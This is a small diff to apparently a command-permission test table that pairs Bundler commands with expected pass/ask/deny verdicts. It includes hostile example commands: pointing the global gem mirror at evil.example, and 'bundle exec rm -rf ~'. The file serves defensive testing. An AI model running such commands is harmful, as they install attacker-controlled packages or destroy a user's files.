@@ -112,7 +112,10 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'bundle config set --local path vendor/bundle', expect: 'pass' },
       { command: 'bundle config get mirror.https://rubygems.org', expect: 'pass' },
-      { command: 'bundle config set --global mirror.https://rubygems.org http://evil.example', expect: 'ask' },
+      {
+        command: 'bundle config set --global mirror.https://rubygems.org http://evil.example',
+        expect: 'ask',
+      },
       { command: 'bundle config mirror.https://rubygems.org http://evil.example', expect: 'ask' },
       { command: 'bundle exec rspec', expect: 'pass' },
       { command: 'bundle exec rm -rf ~', expect: 'deny' },
